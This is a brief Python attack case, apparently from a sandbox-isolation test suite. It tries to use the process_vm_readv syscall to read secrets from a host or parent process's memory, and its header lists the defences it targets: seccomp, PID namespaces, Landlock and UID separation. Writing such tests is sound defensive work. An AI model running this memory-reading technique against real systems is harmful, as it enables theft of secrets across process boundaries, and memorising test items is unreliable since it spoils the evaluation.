# attack: read a secret in the host's memory with process_vm_readv
# class: 13
# walls: seccomp pid landlock uid
# needs: syscall
# naked: same-uid

import struct

# A guest that is forked from a warm parent has the parent's layout: its own addresses
# are good guesses.
def attempt():
    def reads(pid, address, size):
        def route():
            buffer = ctypes.create_string_buffer(size)
            local = struct.pack("QQ", ctypes.addressof(buffer), size)
            n = syscall("process_vm_readv", pid, local, 1, struct.pack("QQ", address, size), 1, 0)
            return n > 0 and "read from process %d: %r" % (pid, buffer.raw[:n])
        return route
    parents = [p for p in (parent(), 1) if p not in (0, os.getpid())]
    return any_of(reads(context["host_pid"], need("memory_address"), need("memory_size")), *[reads(p, id(os), 64) for p in parents])

result = judged(attempt)
